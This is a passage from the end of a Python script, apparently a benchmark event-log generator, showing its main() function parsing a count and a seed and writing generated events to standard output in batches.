        sys.stderr.write("usage: gen-sigma-bench.py N SEED > events.log\n")
        return 2
    n, seed = int(sys.argv[1]), int(sys.argv[2])
    g = Gen(seed)
    out = sys.stdout
    batch = []
    for _ in range(n):
        batch.append(g.event())
        if len(batch) == 4096:
            out.write("\n".join(batch) + "\n")
            batch = []
    if batch:
        out.write("\n".join(batch) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
